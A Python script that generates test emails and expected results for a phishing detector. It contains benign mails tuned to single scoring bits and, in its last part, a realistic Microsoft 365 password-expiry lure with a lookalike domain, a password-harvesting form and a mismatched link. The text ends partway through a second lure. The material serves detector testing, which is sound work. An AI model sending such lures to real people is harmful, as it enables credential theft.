#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes the phishing golden cases tests/cases/analyze_phish_*/.

Each case is a realistic mail (Received chain, Message-ID, Date, MIME as
real clients and bulk senders write it) and an expected.json that pins the
`phishing` section of `mailscope analyze --no-spam`:

* analyze_phish_bit_*: one SpamScope bit each (score, score_expanded,
  targets, with_phishing). SpamScope's keyword semantics: a keyword line
  of conf/phishing/brands.yml (or subjects.yml) matches when each of its
  words occurs as a substring of the lower-cased text. The texts of these
  mails are written so that no other line matches anywhere (beware of
  substrings: "aws" in "laws", "irs" in "first", "chase" in "purchase",
  "ing" and "bank" for ING, "ups" in "groups").
* analyze_phish_signal_* and the lures: each detector signal of
  src/analysis/phishing.c with a non-zero default weight fires in at
  least one case (pinned with $contains on phishing.signals).
* analyze_phish_benign_*: mails that must stay clean.

Attacker infrastructure uses reserved or invented names (.example,
example.net, ...); brands' real domains appear only where the mail really
comes from the brand. Python 3 standard library, plus the Debian `zip`
tool for the encrypted ZIP (skipped with a message when missing).

    python3 tests/gen/phishing_cases.py   # rewrites analyze_phish_*
    python3 tests/golden.py --bin build/mailscope --filter analyze_phish_
"""
import base64
import io
import json
import os
import quopri
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
CASES = os.path.normpath(os.path.join(HERE, "..", "cases"))
PREFIX = "analyze_phish_"
CMD = ["analyze", "--no-spam"]
WRITTEN = []

# ---- MIME building ----------------------------------------------------------


def enc_word(text):
    """An RFC 2047 encoded word (UTF-8, base64) for non-ASCII text."""
    if all(ord(c) < 128 for c in text):
        return text
    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()


def qp(text):
    """Quoted-printable of UTF-8 text with CRLF line ends."""
    data = text.replace("\r\n", "\n").encode()
    out = quopri.encodestring(data)
    return out.replace(b"\n", b"\r\n")


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


class Part:
    def __init__(self, headers, body=b"", children=None, boundary=None):
        self.headers = headers
        self.body = body
        self.children = children or []
        self.boundary = boundary

    def bytes(self):
        out = b"".join(crlf(h + "\n") for h in self.headers) + b"\r\n"
        if not self.children:
            return out + self.body
        if self.body:
            out += self.body
        for c in self.children:
            out += b"--" + self.boundary.encode() + b"\r\n" + c.bytes()
            if not out.endswith(b"\r\n"):
                out += b"\r\n"
        out += b"--" + self.boundary.encode() + b"--\r\n"
        return out


def text_part(text, subtype="plain", cte="quoted-printable", charset="utf-8",
              extra=()):
    headers = ['Content-Type: text/%s; charset="%s"' % (subtype, charset),
               "Content-Transfer-Encoding: %s" % cte] + list(extra)
    if cte == "quoted-printable":
        body = qp(text)
    elif cte == "base64":
        b = base64.b64encode(text.encode()).decode()
        body = crlf("\n".join(b[i:i + 76] for i in range(0, len(b), 76)) +
                    "\n")
    else:
        body = crlf(text)
    if not body.endswith(b"\r\n"):
        body += b"\r\n"
    return Part(headers, body)


def attachment(data, ctype, filename, inline=False):
    b = base64.b64encode(data).decode()
    body = crlf("\n".join(b[i:i + 76] for i in range(0, len(b), 76)) + "\n")
    disp = "inline" if inline else "attachment"
    return Part(['Content-Type: %s; name="%s"' % (ctype, filename),
                 "Content-Transfer-Encoding: base64",
                 'Content-Disposition: %s; filename="%s"' % (disp, filename)],
                body)


def multipart(subtype, children, boundary, preamble=False):
    p = Part(['Content-Type: multipart/%s;\n\tboundary="%s"'
              % (subtype, boundary)], children=children, boundary=boundary)
    if preamble:
        p.body = b"This is a multi-part message in MIME format.\r\n\r\n"
    return p


def received(hops):
    """Received fields, topmost first: (from_helo, from_rdns, ip, by, with,
    id, for, date)."""
    out = []
    for h in hops:
        helo, rdns, ip, by, proto, qid, rcpt, date = h
        s = "Received: from %s (%s [%s])\n\tby %s with %s id %s" % (
            helo, rdns, ip, by, proto, qid)
        if rcpt:
            s += "\n\tfor <%s>" % rcpt
        s += "; " + date
        out.append(s)
    return out


def mail(headers, root):
    """A whole message: headers (strings, in order) then the root part."""
    top = list(headers) + ["MIME-Version: 1.0"] + root.headers
    return Part(top, root.body, root.children, root.boundary).bytes()


def write_case(name, data, expected, comment):
    d = os.path.join(CASES, PREFIX + name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "mail.eml"), "wb") as f:
        f.write(data)
    exp = {"$command": CMD, "$comment": comment}
    exp.update(expected)
    with open(os.path.join(d, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(exp, f, indent=2, ensure_ascii=False)
        f.write("\n")
    WRITTEN.append(PREFIX + name)


def signals(*names):
    return {"$contains": [{"name": n} for n in names]}


def no_signals(*names):
    return {"$not_contains": [{"name": n} for n in names]}


# ---- SpamScope's score, computed from the lists -----------------------------
#
# The expected bits of the analyze_phish_bit_* cases are written by hand;
# spamscope() recomputes them from conf/phishing/brands.yml and
# subjects.yml with SpamScope's own rule (each word of a keyword line a
# substring of the text lowered with str.lower()), so a change of the lists
# that would make a case wrong stops the generator instead of silently
# breaking the case.

CONF = os.path.normpath(os.path.join(HERE, "..", "..", "conf", "phishing"))


def load_lists():
    brands = []
    name = None
    with open(os.path.join(CONF, "brands.yml"), encoding="utf-8") as f:
        for line in f:
            m = re.match(r"^([^\s#][^:]*):\s*$", line)
            if m:
                name = m.group(1).strip().strip("'\"")
                continue
            m = re.match(r"^\s+keywords:\s*\[(.*)\]\s*$", line)
            if m and name:
                kws = [k.strip().strip("'\"") for k in m.group(1).split(",")]
                brands.append((name, [k.split() for k in kws if k]))
    subjects = []
    with open(os.path.join(CONF, "subjects.yml"), encoding="utf-8") as f:
        for line in f:
            m = re.match(r"^- (.+?)\s*$", line)
            if m:
                subjects.append(m.group(1).strip("'\"").split())
    return brands, subjects


LISTS = None


def spamscope(body=(), urls_body=(), att_text=(), urls_att=(), names=(),
              from_=(), subject=""):
    """SpamScope's score and targets of the given texts: body (text parts
    as decoded, markup included), URLs (as normalized), text attachments,
    attachment and archived names, the From header, the subject."""
    global LISTS
    if LISTS is None:
        LISTS = load_lists()
    brands, subjects = LISTS
    score, targets = 0, []
    fields = [(0, body, True), (1, urls_body, False), (2, att_text, True),
              (3, urls_att, False), (4, names, True), (5, from_, True)]
    for bit, texts, target in fields:
        text = "\n".join(texts).lower()
        for name, lines in brands:
            if any(all(w in text for w in ln) for ln in lines):
                score |= 1 << bit
                if not target:
                    break
                if name not in targets:
                    targets.append(name)
    low = subject.lower()
    if any(all(w in low for w in ln) for ln in subjects):
        score |= 1 << 6
    if any("<form" in t.lower() for t in body):
        score |= 1 << 7
    return score, targets


BIT_NAMES = ["mail_body", "urls_body", "text_attachments", "urls_attachments",
             "filename_attachments", "mail_from", "mail_subject", "mail_form"]


def bits(score, names, targets, with_phishing, texts=None):
    """The pinned SpamScope fields; with texts (the keyword arguments of
    spamscope()), checked against the lists first."""
    assert names == [BIT_NAMES[i] for i in range(8) if score >> i & 1]
    if texts is not None:
        got = spamscope(**texts)
        if got != (score, targets):
            sys.exit("SpamScope check: expected %r, the lists give %r"
                     % ((score, targets), got))
    return {"score": score, "score_expanded": names, "targets": targets,
            "with_phishing": with_phishing}


# ---- files ------------------------------------------------------------------

FIXED = (2024, 3, 14, 9, 30, 0)


def make_zip(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, FIXED), data,
                       zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def make_zip_encrypted(files, password):
    """ZipCrypto-encrypted ZIP made with Info-ZIP's zip (the stdlib only
    reads them). None when zip is missing."""
    if shutil.which("zip") is None:
        return None
    with tempfile.TemporaryDirectory() as tmp:
        names = []
        for name, data in files:
            with open(os.path.join(tmp, name), "wb") as f:
                f.write(data)
            os.utime(os.path.join(tmp, name), (1710408600, 1710408600))
            names.append(name)
        subprocess.run(["zip", "-q", "-X", "-P", password, "out.zip"] + names,
                       cwd=tmp, check=True)
        with open(os.path.join(tmp, "out.zip"), "rb") as f:
            return f.read()


def pdf(objects, root=1):
    """A PDF with a cross-reference table, from object bodies (str)."""
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body.encode("latin-1") + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    out += (b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, xref))
    return out


def pdf_page(text, extra_page="", extra_objs=()):
    stream = "BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text
    objs = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        "/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>%s >>"
        % extra_page,
        "<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return objs + list(extra_objs)


def pe_file():
    """A minimal PE image: DOS header with e_lfanew, PE signature, COFF
    header (i386, no sections) and the start of an optional header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[0x3c:0x40] = (0x80).to_bytes(4, "little")
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21" \
        b"This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub
    body += bytes(0x80 - len(body))
    coff = b"PE\x00\x00" + (0x14c).to_bytes(2, "little") + b"\x00\x00" + \
        (1710408600).to_bytes(4, "little") + bytes(8) + \
        (0xe0).to_bytes(2, "little") + (0x0102).to_bytes(2, "little")
    opt = (0x10b).to_bytes(2, "little") + bytes(0xe0 - 2)
    return body + coff + opt + bytes(512)


def docm_file():
    """A Word document with macros: OOXML with word/vbaProject.bin."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="rels" ContentType="application/'
          'vnd.openxmlformats-package.relationships+xml"/><Default Extension='
          '"bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" ContentType="application/'
          'vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/'
           'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>This document '
           'was created in an earlier version. Enable editing and enable '
           'content to view it.</w:t></w:r></w:p></w:body></w:document>')
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + \
        b"Attribute VB_Name = \"ThisDocument\"\r\n" \
        b"Sub AutoOpen()\r\nEnd Sub\r\n"
    return make_zip([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                     ("word/document.xml", doc),
                     ("word/vbaProject.bin", vba)])


def vhd_file():
    """A fixed VHD: 512 bytes of disk, then the 512-byte footer that starts
    with the cookie "conectix"."""
    footer = bytearray(512)
    footer[0:8] = b"conectix"
    footer[8:12] = (2).to_bytes(4, "big")          # features: reserved
    footer[12:16] = (0x00010000).to_bytes(4, "big")  # format version
    footer[16:24] = (0xFFFFFFFFFFFFFFFF).to_bytes(8, "big")  # fixed disk
    footer[28:32] = b"win "
    footer[40:48] = (512).to_bytes(8, "big")
    footer[48:56] = (512).to_bytes(8, "big")
    footer[60:64] = (2).to_bytes(4, "big")         # type: fixed
    return bytes(512) + bytes(footer)


# ---- common headers ---------------------------------------------------------

VICTIM = "jane.doe@example.com"


def inbound(sender_helo, sender_ip, date, qid="4Tw7Qk1Zb3z9sKp", extra=()):
    """The receiving side: the organisation's MX (Postfix with amavis) and
    the mailbox server, topmost first."""
    return received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "1F0C2A0310",
         VICTIM, date),
        (sender_helo[0], sender_helo[1], sender_ip,
         "mx1.example.com (Postfix)", "ESMTPS", qid, VICTIM, date),
    ]) + list(extra)


def auth(result):
    return ("Authentication-Results: mx1.example.com;\n\t%s" % result)


# ---- 1. SpamScope bits, one at a time ---------------------------------------

def bit_mail_body():
    date = "Tue, 12 Mar 2024 18:04:51 +0100"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        auth("spf=pass smtp.mailfrom=example.org;\n\tdkim=pass "
             "header.d=example.org;\n\tdmarc=pass header.from=example.org"),
        "Message-ID: <8d1c2f0e-5b7a-4c2e-9a51-3f0d1e6b7c21@example.org>",
        "Date: " + date,
        "From: Mark Jensen <mark.jensen@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Re: movie night on Friday",
        "In-Reply-To: <CAF7q2Lw1x@mail.example.com>",
        "User-Agent: Mozilla Thunderbird",
    ]
    text = ("Hi Jane,\n\nFriday works for us. We could watch the new series "
            "on\nNetflix at our place, Tom will bring the snacks.\n\nSee you "
            "then,\nMark\n")
    body = text_part(text, cte="7bit")
    write_case("bit_mail_body", mail(h, body), {"phishing": dict(
        bits(1, ["mail_body"], ["Netflix"], False, dict(
            body=[text], from_=["Mark Jensen <mark.jensen@example.org>"],
            subject="Re: movie night on Friday")), verdict="clean")},
        "SpamScope bit 0 alone: the plain body names Netflix (a target's "
        "keyword line 'netflix'); no URL, so with_phishing is false "
        "(score != 0 and a URL). Nothing else matches: From, subject and "
        "attachments hold no keyword. A friend naming a brand is no lure: "
        "the detector stays clean.")


def bit_urls_body():
    date = "Wed, 13 Mar 2024 10:12:03 +0000"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        "Message-ID: <20240313101203.5512@example.org>",
        "Date: " + date,
        "From: Priya Raman <priya.raman@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Slides for Thursday",
        "User-Agent: Mozilla Thunderbird",
    ]
    text = ("Hi Jane,\n\nthe slides for Thursday are here:\n"
            "https://files.example.net/s/q1-planning/%64ropbox-export.pdf\n\n"
            "Cheers,\nPriya\n")
    body = text_part(text, cte="7bit")
    write_case("bit_urls_body", mail(h, body), {"phishing": bits(
        2, ["urls_body"], [], True, dict(
            body=[text], urls_body=["https://files.example.net/s/q1-planning/"
                                    "dropbox-export.pdf"],
            from_=["Priya Raman <priya.raman@example.org>"],
            subject="Slides for Thursday"))},
        "SpamScope bit 1 alone: the body's URL spells its first letter "
        "percent-encoded (%64 is 'd'); the body text holds '%64ropbox', so "
        "the body bit stays off, while the URL as normalized (RFC 3986 "
        "6.2.2.2: encoded unreserved characters are decoded) holds "
        "'dropbox', Dropbox's keyword. URL bits add no target.")


def bit_text_attachment():
    date = "Thu, 14 Mar 2024 16:45:10 +0000"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        "Message-ID: <5f0b9e52-11c4-4b8e-8f0e-2a3c4d5e6f70@example.org>",
        "Date: " + date,
        "From: Priya Raman <priya.raman@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Notes from today's call",
        "User-Agent: Mozilla Thunderbird",
    ]
    notes = ("Call with Northwind, 14 March\n\n- contract signed through "
             "DocuSign yesterday\n- kickoff on 2 April\n- Priya sends the "
             "plan by Friday\n")
    text = "Hi Jane,\n\nmy notes from the call are attached.\n\nPriya\n"
    root = multipart("mixed", [
        text_part(text, cte="7bit"),
        attachment(notes.encode(), "text/plain", "call-notes.txt"),
    ], "------------3Ck8u0Y2Z9aJbQf1VvWx", preamble=True)
    write_case("bit_text_attachment", mail(h, root), {"phishing": bits(
        4, ["text_attachments"], ["DocuSign"], False, dict(
            body=[text], att_text=[notes], names=["call-notes.txt"],
            from_=["Priya Raman <priya.raman@example.org>"],
            subject="Notes from today's call"))},
        "SpamScope bit 2 alone: the text/plain attachment names DocuSign; "
        "the body, the name call-notes.txt, From and subject hold no "
        "keyword, and no URL is in the mail.")


def bit_urls_attachment():
    date = "Fri, 15 Mar 2024 08:20:44 +0000"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        "Message-ID: <0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f@example.org>",
        "Date: " + date,
        "From: Priya Raman <priya.raman@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Q1 report",
        "User-Agent: Mozilla Thunderbird",
    ]
    doc = pdf(pdf_page("Q1 report - figures on the linked sheet",
                       " /Annots [6 0 R]",
                       ["<< /Type /Annot /Subtype /Link /Rect [72 700 300 "
                        "716] /Border [0 0 0] /A << /S /URI /URI (https://"
                        "files.example.net/dropbox/q1-figures.xlsx) >> >>"]))
    text = "Hi Jane,\n\nthe Q1 report is attached.\n\nPriya\n"
    root = multipart("mixed", [
        text_part(text, cte="7bit"),
        attachment(doc, "application/pdf", "Q1-report.pdf"),
    ], "------------aB3dE5fG7hI9jK1lM3nO", preamble=True)
    write_case("bit_urls_attachment", mail(h, root), {"phishing": bits(
        8, ["urls_attachments"], [], True, dict(
            body=[text], urls_att=["https://files.example.net/dropbox/"
                                   "q1-figures.xlsx"],
            names=["Q1-report.pdf"],
            from_=["Priya Raman <priya.raman@example.org>"],
            subject="Q1 report"))},
        "SpamScope bit 3 alone: the PDF attachment's link annotation "
        "(/URI) points to a path holding 'dropbox'. A PDF is not a text "
        "attachment, so its bytes set no bit 2; its name holds no keyword.")


def bit_filename():
    date = "Mon, 18 Mar 2024 11:02:37 +0000"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        "Message-ID: <a1b2c3d4-0001-4e5f-8a9b-c0d1e2f3a4b5@example.org>",
        "Date: " + date,
        "From: Tom Berger <tom.berger@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: February statement for the club account",
        "User-Agent: Mozilla Thunderbird",
    ]
    doc = pdf(pdf_page("Statement February 2024"))
    text = ("Hi Jane,\n\nhere is the February statement for the club "
            "account, as you asked.\n\nTom\n")
    root = multipart("mixed", [
        text_part(text, cte="7bit"),
        attachment(doc, "application/pdf", "PayPal-Statement-2024-02.pdf"),
    ], "------------Zx9Yw8Vu7Ts6Rq5Po4Nm", preamble=True)
    write_case("bit_filename_attachment", mail(h, root), {"phishing": bits(
        16, ["filename_attachments"], ["PayPal"], False, dict(
            body=[text], names=["PayPal-Statement-2024-02.pdf"],
            from_=["Tom Berger <tom.berger@example.org>"],
            subject="February statement for the club account"))},
        "SpamScope bit 4 alone: the attachment's name holds 'paypal'. The "
        "PDF holds no link and is not text; body, From and subject hold no "
        "keyword.")


def bit_filename_in_zip():
    date = "Mon, 18 Mar 2024 14:31:09 +0000"
    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
                date) + [
        "Message-ID: <a1b2c3d4-0002-4e5f-8a9b-c0d1e2f3a4b5@example.org>",
        "Date: " + date,
        "From: Tom Berger <tom.berger@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Signed lease, scanned",
        "User-Agent: Mozilla Thunderbird",
    ]
    z = make_zip([("DocuSign_Envelope_7F3A.pdf",
                   pdf(pdf_page("Lease agreement - signed")))])
    text = "Hi Jane,\n\nthe signed lease is in the zip.\n\nTom\n"
    root = multipart("mixed", [
        text_part(text, cte="7bit"),
        attachment(z, "application/zip", "lease-scans.zip"),
    ], "------------Qw1Er2Ty3Ui4Op5As6Df", preamble=True)
    write_case("bit_filename_in_zip", mail(h, root), {"phishing": bits(
        16, ["filename_attachments"], ["DocuSign"], False, dict(
            body=[text], names=["lease-scans.zip",
                                "DocuSign_Envelope_7F3A.pdf"],
            from_=["Tom Berger <tom.berger@example.org>"],
            subject="Signed lease, scanned"))},
        "SpamScope bit 4 from an archived name: the attachment lease-"
        "scans.zip holds DocuSign_Envelope_7F3A.pdf; the names of files "
        "inside archives count like attachment names.")


def bit_mail_from():
    date = "Tue, 19 Mar 2024 07:55:12 +0000"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "7A1D2B0411", VICTIM, date),
        ("mail-a12.spotify.com", "mail-a12.spotify.com", "203.0.113.80",
         "mx1.example.com (Postfix)", "ESMTPS", "4TxK2m0Qz1z1", VICTIM, date),
    ]) + [
        auth("spf=pass smtp.mailfrom=spotify.com;\n\tdkim=pass "
             "header.d=spotify.com;\n\tdmarc=pass header.from=spotify.com"),
        "Message-ID: <0100018e5a3c7f21-6b1f2e3d@email.spotify.com>",
        "Date: " + date,
        "From: Spotify <no-reply@spotify.com>",
        "To: %s" % VICTIM,
        "Subject: Your password was changed",
    ]
    text = ("Hi Jane,\n\nThe password for your account was changed on 19 "
            "March 2024 at 07:54 (UTC).\n\nIf this was you, there is nothing "
            "else to do.\n\nIf it was not you, reply to this message and we "
            "will help you get your account back.\n")
    body = text_part(text, cte="7bit")
    write_case("bit_mail_from", mail(h, body), {"phishing": dict(
        bits(32, ["mail_from"], ["Spotify"], False, dict(
            body=[text], from_=["Spotify <no-reply@spotify.com>"],
            subject="Your password was changed")), verdict="clean")},
        "SpamScope bit 5 alone: the From header names Spotify; the body "
        "holds no keyword and no URL. The sender is Spotify's own domain, "
        "so the detector finds nothing.")


def bit_mail_subject():
    date = "Wed, 20 Mar 2024 13:40:02 +0000"
    h = inbound(("pbx.example.com", "pbx.example.com"), "192.0.2.60",
                date) + [
        "Message-ID: <vm-20240320134002-0143@pbx.example.com>",
        "Date: " + date,
        "From: Phone System <pbx@example.com>",
        "To: %s" % VICTIM,
        "Subject: Voicemail from +1 555 0143 (0:42)",
    ]
    text = ("You have a new message in box 2204.\n\nCaller: +1 555 0143\n"
            "Length: 0:42\n\nPlay it in the browser:\n"
            "https://pbx.example.com/vm/2204/0143\n")
    body = text_part(text, cte="7bit")
    write_case("bit_mail_subject", mail(h, body), {"phishing": bits(
        64, ["mail_subject"], [], True, dict(
            body=[text], urls_body=["https://pbx.example.com/vm/2204/0143"],
            from_=["Phone System <pbx@example.com>"],
            subject="Voicemail from +1 555 0143 (0:42)"))},
        "SpamScope bit 6 alone: the subject holds 'voicemail', a line of "
        "conf/phishing/subjects.yml. The subject adds no target; the mail "
        "has a URL, so with_phishing is true.")


def bit_mail_form():
    date = "Thu, 21 Mar 2024 09:00:00 +0000"
    h = inbound(("out.northwind-hotels.example", "out.northwind-hotels."
                 "example"), "203.0.113.45", date) + [
        "Message-ID: <stay-88127.feedback@northwind-hotels.example>",
        "Date: " + date,
        "From: Northwind Hotels <guest-feedback@northwind-hotels.example>",
        "To: %s" % VICTIM,
        "Subject: How was your stay in Lisbon?",
    ]
    html = ("<html><body>\n<p>Dear Jane,</p>\n<p>Thank you for staying with "
            "us in Lisbon from 17 to 20 March. How would you rate your "
            "room?</p>\n<form action=\"https://survey.northwind-hotels."
            "example/r/88127\" method=\"get\">\n<label><input type=\"radio\" "
            "name=\"r\" value=\"5\"> Excellent</label>\n<label><input type="
            "\"radio\" name=\"r\" value=\"3\"> Good</label>\n<label><input "
            "type=\"radio\" name=\"r\" value=\"1\"> Poor</label>\n<input "
            "type=\"submit\" value=\"Send\">\n</form>\n<p>Northwind Hotels, "
            "Rua Augusta 100, Lisbon</p>\n</body></html>\n")
    text = ("Dear Jane,\n\nThank you for staying with us in Lisbon from 17 "
            "to 20 March. Rate your room:\nhttps://survey.northwind-hotels."
            "example/r/88127\n")
    root = multipart("alternative", [
        text_part(text, cte="7bit"),
        text_part(html, "html"),
    ], "b1_7f3c2e1d0a9b8c7d6e5f4a3b2c1d0e9f")
    write_case("bit_mail_form", mail(h, root), {"phishing": dict(
        bits(128, ["mail_form"], [], True, dict(
            body=[text, html],
            urls_body=["https://survey.northwind-hotels.example/r/88127"],
            from_=["Northwind Hotels <guest-feedback@northwind-hotels."
                   "example>"],
            subject="How was your stay in Lisbon?")),
        signals=no_signals("form_in_body", "credential_form"))},
        "SpamScope bit 7 alone: the HTML body holds a <form> (a rating "
        "survey, no password field). form_in_body has weight 0 by default, "
        "so it is not listed; no password field, so no credential_form.")


def bit_mail_body_words_apart():
    date = "Fri, 22 Mar 2024 12:00:31 +0000"
    h = inbound(("mail.example.com", "mail.example.com"), "192.0.2.10",
                date) + [
        "Message-ID: <facilities-2024-03-22.1@example.com>",
        "Date: " + date,
        "From: Facilities <facilities@example.com>",
        "To: all-staff@example.com",
        "Subject: Closed on Monday; new archive rules",
    ]
    text = ("Hi all,\n\nthe Office will be closed on Monday. From Tuesday "
            "the archive keeps\nmail for 365 days instead of 90.\n\n"
            "Facilities\n")
    body = text_part(text, cte="7bit")
    write_case("bit_mail_body_words_apart", mail(h, body), {"phishing": dict(
        bits(1, ["mail_body"], ["Microsoft"], False, dict(
            body=[text], from_=["Facilities <facilities@example.com>"],
            subject="Closed on Monday; new archive rules")),
        verdict="clean")},
        "SpamScope's keyword semantics: Microsoft's line 'office 365' "
        "matches when 'office' and '365' each occur in the lower-cased "
        "body, anywhere and in any order ('the Office will be closed', "
        "'365 days'); they need not be a phrase.")


def bit_mail_subject_accented():
    date = "Sat, 23 Mar 2024 08:15:00 +0100"
    h = inbound(("smtp.example.fr", "smtp.example.fr"), "198.51.100.44",
                date) + [
        "Message-ID: <20240323081500.4471@example.fr>",
        "Date: " + date,
        "From: Service clients <notifications@example.fr>",
        "To: %s" % VICTIM,
        "Subject: " + enc_word("ACTIVITÉ SUSPECTE sur votre compte client"),
    ]
    text = ("Bonjour,\n\nnous avons remarqué une connexion depuis un nouvel "
            "appareil. Si\nc'était vous, ignorez ce message.\n\nLe service "
            "clients\n")
    body = text_part(text)
    write_case("bit_mail_subject_accented", mail(h, body), {"phishing": bits(
        64, ["mail_subject"], [], False, dict(
            body=[text],
            from_=["Service clients <notifications@example.fr>"],
            subject="ACTIVITÉ SUSPECTE sur votre compte client"))},
        "SpamScope bit 6 with a non-ASCII capital: the subject (RFC 2047, "
        "UTF-8) 'ACTIVITÉ SUSPECTE ...' lower-cases (Python's str.lower(), "
        "as SpamScope does) to 'activité suspecte', a French line of "
        "subjects.yml. No URL: with_phishing is false.")


# ---- 4. full lures ----------------------------------------------------------

def m365_password_expiry():
    date = "Mon, 25 Mar 2024 06:12:45 +0000"
    h = inbound(("mail.micros0ft-online.com", "vps-21187.example.net"),
                "203.0.113.199", date) + [
        auth("spf=softfail (domain of transitioning micros0ft-online.com "
             "does not designate 203.0.113.199 as permitted sender)\n\t"
             "smtp.mailfrom=micros0ft-online.com;\n\tdkim=none;\n\t"
             "dmarc=fail (p=NONE) header.from=micros0ft-online.com"),
        "Message-ID: <20240325061245.2F7A1C@mail.micros0ft-online.com>",
        "Date: " + date,
        "From: Microsoft 365 Admin <no-reply@micros0ft-online.com>",
        "Reply-To: it-support@example-helpdesk.net",
        "To: %s" % VICTIM,
        "Subject: Action Required: Your password expires today",
        "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
    ]
    action = "https://login.micros0ft-online.com/common/oauth2/keep.php"
    html = (
        "<html><head><meta charset=\"utf-8\"></head><body style=\"font-family:"
        "Segoe UI,Arial,sans-serif\">\n<h2>Microsoft 365</h2>\n<p>Hello "
        "Jane,</p>\n<p>The password of your account " + VICTIM + " will "
        "expire within 24 hours. After that you will be signed out of "
        "Outlook and Teams.</p>\n<p>To keep your current password, confirm "
        "it below. Your password expires today.</p>\n<form action=\"" +
        action + "\" method=\"post\">\n<input type=\"email\" name=\"login\" "
        "value=\"" + VICTIM + "\"><br>\n<input type=\"password\" name=\""
        "passwd\" placeholder=\"Password\"><br>\n<input type=\"submit\" "
        "value=\"Keep current password\">\n</form>\n<p>Or go to <a href=\""
        "https://login.micros0ft-online.com/common/reauth?u=jane.doe\">"
        "https://account.microsoft.com/security</a></p>\n<p>Microsoft 365 "
        "Admin Center</p>\n</body></html>\n")
    root = multipart("alternative", [
        text_part("Hello Jane,\n\nThe password of your account " + VICTIM +
                  " will expire within 24 hours.\nTo keep your current "
                  "password, confirm it at\nhttps://login.micros0ft-online."
                  "com/common/reauth?u=jane.doe\n\nMicrosoft 365 Admin "
                  "Center\n"),
        text_part(html, "html"),
    ], "b1_a3f9c27d5e1b4f6a8c0d2e4f6a8b0c1d")
    write_case("m365_password_expiry", mail(h, root), {"phishing": {
        "verdict": "phishing", "brand": "Microsoft",
        "score_expanded": {"$contains": ["mail_body", "mail_from",
                                         "mail_subject", "mail_form"]},
        "targets": {"$contains": ["Microsoft"]},
        "with_phishing": True,
        "signals": signals("brand_display_name", "lookalike_domain",
                           "credential_form", "text_href_mismatch",
                           "reply_to_mismatch", "auth_fail", "urgency",
                           "credential_request")}},
        "Microsoft 365 password-expiry lure: display name 'Microsoft 365' "
        "from micros0ft-online.com (0 for o, the hyphen dropped: the "
        "skeleton of Microsoft's label 'microsoftonline'), a form with a "
        "password field in the body, link text showing account.microsoft."
        "com over a link to the lookalike, Reply-To at another domain, the "
        "receiver's DMARC fail, 'within 24 hours'/'expires today' and "
        "'password expires'. Subject 'password expir' and 'action "
        "required' set bit 6.")


def dhl_parcel_fee():
    date = "Tue, 26 Mar 2024 15:03:27 +0000"
    h = inbound(("xkrtvq-delivery.top", "unknown"), "198.51.100.201",
                date) + [
